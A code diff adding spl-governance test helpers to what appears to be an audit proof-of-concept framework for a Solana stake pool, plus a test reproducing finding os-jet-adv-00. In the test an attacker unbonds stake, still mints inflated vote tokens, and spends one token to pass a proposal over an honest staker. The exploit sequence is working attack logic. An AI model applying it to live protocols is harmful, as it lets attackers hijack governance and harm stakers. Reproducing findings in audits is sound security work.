@@ -0,0 +1,306 @@
+//! Helpers for an spl-governance realm voting with the stake pool's vote mint.
+//!
+//! The governance program isn't loaded by default. `build.sh` builds it for crates listing
+//! spl-governance, only `suites` with its default `governance` feature, into
+//! [`GOVERNANCE_PROGRAM_PATH`]:
+//!
+//! ```ignore
+//! let mut test_env = Framework::builder()
+//!     .governance(Pubkey::new_unique(), GOVERNANCE_PROGRAM_PATH)
+//!     .build()?;
+//! test_env.create_realm()?;
+//! test_env.deposit_votes(&attacker, amount)?;
+//! test_env.create_governance(&attacker)?;
+//! test_env.create_proposal(&attacker, 0)?;
+//! test_env.cast_vote(&attacker, &attacker, 0, true)?;
+//! assert_eq!(test_env.proposal_state(0)?, ProposalState::Succeeded);
+//! ```
+
+use super::{clone_keypair, outcome::TxOutcome, Framework};
+use anchor_spl::associated_token::get_associated_token_address;
+use poc_framework_osec::{
+    solana_sdk::{
+        borsh::try_from_slice_unchecked, pubkey::Pubkey, signature::Keypair, signer::Signer,
+    },
+    Environment,
+};
+use spl_governance::{
+    instruction,
+    state::{
+        enums::{
+            MintMaxVoteWeightSource, ProposalState, VoteThresholdPercentage, VoteWeightSource,
+        },
+        governance::{get_account_governance_address, GovernanceConfig},
+        proposal::{get_proposal_address, ProposalV2, VoteType},
+        realm::get_realm_address,
+        token_owner_record::get_token_owner_record_address,
+        vote_record::{Vote, VoteChoice},
+    },
+};
+use std::error::Error;
+
+/// the realm every helper works with
+pub const REALM_NAME: &str = "jet";
+
+/// percentage of the vote supply needed to pass a proposal
+pub const YES_VOTE_THRESHOLD: u8 = 60;
+
+/// where `build.sh` puts the spl-governance 2.1.4 build
+pub const GOVERNANCE_PROGRAM_PATH: &str = "./build/spl-governance/target/deploy/spl_governance.so";
+
+impl Framework {
+    pub fn governance_program_id(&self) -> Result<Pubkey, Box<dyn Error>> {
+        Ok(self.governance_program.ok_or(
+            "no governance program loaded, add one with Framework::builder().governance()",
+        )?)
+    }
+
+    pub fn realm_pubkey(&self) -> Result<Pubkey, Box<dyn Error>> {
+        Ok(get_realm_address(
+            &self.governance_program_id()?,
+            REALM_NAME,
+        ))
+    }
+
+    pub fn token_owner_record_pubkey(&self, owner: &Pubkey) -> Result<Pubkey, Box<dyn Error>> {
+        Ok(get_token_owner_record_address(
+            &self.governance_program_id()?,
+            &self.realm_pubkey()?,
+            &self.stake_vote_mint_pubkey(),
+            owner,
+        ))
+    }
+
+    /// the stake pool itself is what the governance governs, it only needs some account
+    pub fn governance_pubkey(&self) -> Result<Pubkey, Box<dyn Error>> {
+        Ok(get_account_governance_address(
+            &self.governance_program_id()?,
+            &self.realm_pubkey()?,
+            &self.stake_pool_pubkey(),
+        ))
+    }
+
+    pub fn proposal_pubkey(&self, index: u32) -> Result<Pubkey, Box<dyn Error>> {
+        Ok(get_proposal_address(
+            &self.governance_program_id()?,
+            &self.governance_pubkey()?,
+            &self.stake_vote_mint_pubkey(),
+            &index.to_le_bytes(),
+        ))
+    }
+
+    /// a realm using the vote mint as its community mint, with the pool authority as its authority
+    pub fn create_realm(&mut self) -> Result<TxOutcome, Box<dyn Error>> {
+        let pool_authority = clone_keypair(&self.pool_authority);
+        let instructions = vec![instruction::create_realm(
+            &self.governance_program_id()?,
+            &pool_authority.pubkey(),
+            &self.stake_vote_mint_pubkey(),
+            &pool_authority.pubkey(),
+            None,
+            None,
+            REALM_NAME.to_string(),
+            1,
+            MintMaxVoteWeightSource::FULL_SUPPLY_FRACTION,
+        )];
+        Ok(self.execute(
+            "create_realm",
+            &instructions,
+            &pool_authority,
+            &[&pool_authority],
+        ))
+    }
+
+    /// moves vote tokens minted with `mint_votes` into the user's token owner record
+    pub fn deposit_votes(
+        &mut self,
+        user: &Keypair,
+        amount: u64,
+    ) -> Result<TxOutcome, Box<dyn Error>> {
+        let vote_mint = self.stake_vote_mint_pubkey();
+        let instructions = vec![instruction::deposit_governing_tokens(
+            &self.governance_program_id()?,
+            &self.realm_pubkey()?,
+            &get_associated_token_address(&user.pubkey(), &vote_mint),
+            &user.pubkey(),
+            &user.pubkey(),
+            &user.pubkey(),
+            amount,
+            &vote_mint,
+        )];
+        Ok(self.execute("deposit_votes", &instructions, user, &[user]))
+    }
+
+    /// a governance over the stake pool account, created by a user with deposited votes
+    pub fn create_governance(&mut self, creator: &Keypair) -> Result<TxOutcome, Box<dyn Error>> {
+        let config = GovernanceConfig {
+            vote_threshold_percentage: VoteThresholdPercentage::YesVote(YES_VOTE_THRESHOLD),
+            min_community_tokens_to_create_proposal: 1,
+            min_instruction_hold_up_time: 0,
+            max_voting_time: 60 * 60 * 24,
+            vote_weight_source: VoteWeightSource::Deposit,
+            proposal_cool_off_time: 0,
+            min_council_tokens_to_create_proposal: 1,
+        };
+        let instructions = vec![instruction::create_account_governance(
+            &self.governance_program_id()?,
+            &self.realm_pubkey()?,
+            &self.stake_pool_pubkey(),
+            &self.token_owner_record_pubkey(&creator.pubkey())?,
+            &creator.pubkey(),
+            &creator.pubkey(),
+            None,
+            config,
+        )];
+        Ok(self.execute("create_governance", &instructions, creator, &[creator]))
+    }
+
+    /// creates a yes/no proposal and signs it off right away, so voting starts immediately
+    pub fn create_proposal(
+        &mut self,
+        owner: &Keypair,
+        index: u32,
+    ) -> Result<TxOutcome, Box<dyn Error>> {
+        let program_id = self.governance_program_id()?;
+        let owner_record = self.token_owner_record_pubkey(&owner.pubkey())?;
+        let proposal = self.proposal_pubkey(index)?;
+        let instructions = vec![
+            instruction::create_proposal(
+                &program_id,
+                &self.governance_pubkey()?,
+                &owner_record,
+                &owner.pubkey(),
+                &owner.pubkey(),
+                None,
+                &self.realm_pubkey()?,
+                format!("proposal {}", index),
+                "".to_string(),
+                &self.stake_vote_mint_pubkey(),
+                VoteType::SingleChoice,
+                vec!["yes".to_string()],
+                true,
+                index,
+            ),
+            instruction::add_signatory(
+                &program_id,
+                &proposal,
+                &owner_record,
+                &owner.pubkey(),
+                &owner.pubkey(),
+                &owner.pubkey(),
+            ),
+            instruction::sign_off_proposal(&program_id, &proposal, &owner.pubkey()),
+        ];
+        Ok(self.execute("create_proposal", &instructions, owner, &[owner]))
+    }
+
+    pub fn cast_vote(
+        &mut self,
+        voter: &Keypair,
+        proposal_owner: &Keypair,
+        index: u32,
+        approve: bool,
+    ) -> Result<TxOutcome, Box<dyn Error>> {
+        let vote = if approve {
+            Vote::Approve(vec![VoteChoice {
+                rank: 0,
+                weight_percentage: 100,
+            }])
+        } else {
+            Vote::Deny
+        };
+        let instructions = vec![instruction::cast_vote(
+            &self.governance_program_id()?,
+            &self.realm_pubkey()?,
+            &self.governance_pubkey()?,
+            &self.proposal_pubkey(index)?,
+            &self.token_owner_record_pubkey(&proposal_owner.pubkey())?,
+            &self.token_owner_record_pubkey(&voter.pubkey())?,
+            &voter.pubkey(),
+            &self.stake_vote_mint_pubkey(),
+            &voter.pubkey(),
+            None,
+            vote,
+        )];
+        Ok(self.execute("cast_vote", &instructions, voter, &[voter]))
+    }
+
+    pub fn proposal(&self, index: u32) -> Result<ProposalV2, Box<dyn Error>> {
+        let proposal = self.proposal_pubkey(index)?;
+        let account = self
+            .env
+            .get_account(proposal)
+            .ok_or_else(|| format!("proposal {} doesn't exist", proposal))?;
+
+        Ok(try_from_slice_unchecked(&account.data)?)
+    }
+
+    pub fn proposal_state(&self, index: u32) -> Result<ProposalState, Box<dyn Error>> {
+        Ok(self.proposal(index)?.state)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::framework::{get_balance, helpers::staked_user};
+
+    const BASE_AMT: u64 = 10000;
+
+    /// the vote inflation of os-jet-adv-00 against an honest staker holding as many tokens: one
+    /// token buys the attacker enough votes to pass a proposal on their own
+    #[test]
+    fn inflated_votes_pass_a_proposal() {
+        let mut test_env = Framework::builder()
+            .governance(Pubkey::new_unique(), GOVERNANCE_PROGRAM_PATH)
+            .build()
+            .unwrap();
+        test_env.quiet = true;
+        let attacker = staked_user(&mut test_env, BASE_AMT).unwrap();
+        let victim = clone_keypair(&test_env.victim);
+        test_env.create_user_auth(&victim).unwrap();
+        test_env.authenticate_user(&victim).unwrap();
+        test_env.init_stake_account(&victim).unwrap();
+        test_env.mint_vault_token(&victim, BASE_AMT).unwrap();
+        let vote_mint = test_env.stake_vote_mint_pubkey();
+        for user in [&attacker, &victim] {
+            test_env.add_stake(user, BASE_AMT).unwrap();
+            test_env
+                .env
+                .create_associated_token_account(user, vote_mint);
+        }
+
+        test_env.mint_votes(&victim, BASE_AMT).unwrap();
+        test_env
+            .unbond_stake_shares(&attacker, 0, BASE_AMT - 1)
+            .unwrap();
+        test_env.mint_votes(&attacker, BASE_AMT * 2 - 1).unwrap();
+        test_env.withdraw_unbonded_stake(&attacker, 0).unwrap();
+        let spent = BASE_AMT
+            - get_balance(&test_env, &attacker, &test_env.vault_token_mint.pubkey()).unwrap();
+        assert_eq!(spent, 1);
+
+        assert!(test_env.create_realm().unwrap().is_ok());
+        assert!(test_env.deposit_votes(&victim, BASE_AMT).unwrap().is_ok());
+        assert!(test_env
+            .deposit_votes(&attacker, BASE_AMT * 2 - 1)
+            .unwrap()
+            .is_ok());
+        assert!(test_env.create_governance(&attacker).unwrap().is_ok());
+        assert!(test_env.create_proposal(&attacker, 0).unwrap().is_ok());
+
+        assert!(test_env
+            .cast_vote(&victim, &attacker, 0, false)
+            .unwrap()
+            .is_ok());
+        assert_eq!(test_env.proposal_state(0).unwrap(), ProposalState::Voting);
+        assert!(test_env
+            .cast_vote(&attacker, &attacker, 0, true)
+            .unwrap()
+            .is_ok());
+        assert_eq!(
+            test_env.proposal_state(0).unwrap(),
+            ProposalState::Succeeded
+        );
+    }
+}